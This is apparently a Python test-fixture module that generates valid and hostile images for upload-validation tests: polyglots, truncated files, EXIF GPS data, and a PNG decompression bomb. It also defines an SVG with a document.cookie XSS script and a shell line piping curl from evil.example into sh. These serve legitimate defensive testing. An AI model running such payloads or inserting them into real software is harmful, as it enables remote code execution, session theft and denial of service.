"""Images for the upload tests, built in memory with Pillow and plain bytes: sound ones and a
hostile corpus (wrong formats, truncated files, polyglots, metadata, bombs)."""

from __future__ import annotations

import io
import struct
import zlib
from typing import Any

from PIL import ExifTags, Image, ImageCms, PngImagePlugin

PNG_IEND = b"\x00\x00\x00\x00IEND\xaeB`\x82"


def encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def jpeg(size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (200, 30, 60), **params: Any) -> bytes:
    return encode(Image.new("RGB", size, color), "JPEG", **params)


def png(size: tuple[int, int] = (64, 48), mode: str = "RGBA", color: Any = (10, 120, 40, 128), **params: Any) -> bytes:
    return encode(Image.new(mode, size, color), "PNG", **params)


def webp(size: tuple[int, int] = (64, 48), mode: str = "RGBA", color: Any = (10, 20, 200, 200)) -> bytes:
    return encode(Image.new(mode, size, color), "WEBP", quality=90)


def noisy_jpeg(size: tuple[int, int] = (320, 240)) -> bytes:
    """A JPEG with real entropy (a flat colour compresses to almost nothing)."""
    return encode(Image.effect_noise(size, 64).convert("RGB"), "JPEG", quality=90)


def jpeg_with_gps(size: tuple[int, int] = (40, 20), orientation: int = 1) -> bytes:
    """A phone photo: GPS position, camera make and an orientation tag in EXIF."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "FlowerPhone"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (43.0, 14.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (76.0, 53.0, 10.0)
    image = Image.new("RGB", size, (250, 250, 250))
    image.paste((255, 0, 0), (0, 0, size[0] // 2, size[1]))  # left half red: orientation is checkable
    return encode(image, "JPEG", exif=exif, quality=95)


def jpeg_with_comment(payload: bytes) -> bytes:
    """A JPEG whose COM segment carries a script: a classic image/PHP polyglot."""
    return encode(Image.new("RGB", (32, 32), (1, 2, 3)), "JPEG", comment=payload)


def png_with_text(payload: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", payload)
    info.add_text("Author", "someone", zip=True)
    return png(pnginfo=info)


def png_with_icc() -> bytes:
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(Image.new("RGB", (16, 16), (9, 9, 9)), "PNG", icc_profile=icc)


def png_with_trailing_data(tail: bytes) -> bytes:
    return png() + tail


def truncated_jpeg() -> bytes:
    data = noisy_jpeg()
    return data[: len(data) // 2]


def png_claiming(width: int, height: int) -> bytes:
    """A 1×1 PNG whose IHDR (with a correct CRC) claims ``width``×``height``: costs nothing to
    build and would cost gigabytes to decode."""
    data = png((1, 1), mode="RGB", color=(0, 0, 0))
    ihdr = b"IHDR" + struct.pack(">II", width, height) + data[24:29]
    return data[:12] + ihdr + struct.pack(">I", zlib.crc32(ihdr)) + data[33:]


def gif() -> bytes:
    return encode(Image.new("P", (8, 8)), "GIF")


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<html><body><script>fetch('/api/auth/me')</script></body></html>"


def cmyk_jpeg() -> bytes:
    return encode(Image.new("CMYK", (24, 24), (0, 255, 255, 0)), "JPEG")


def grey16_png() -> bytes:
    return encode(Image.new("I;16", (8, 8), 32768), "PNG")


def palette_png_with_transparency() -> bytes:
    image = Image.new("P", (8, 8), 1)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    return encode(image, "PNG", transparency=0)


def animated_png() -> bytes:
    frames = [Image.new("RGB", (16, 16), color) for color in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)


def opened(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data))
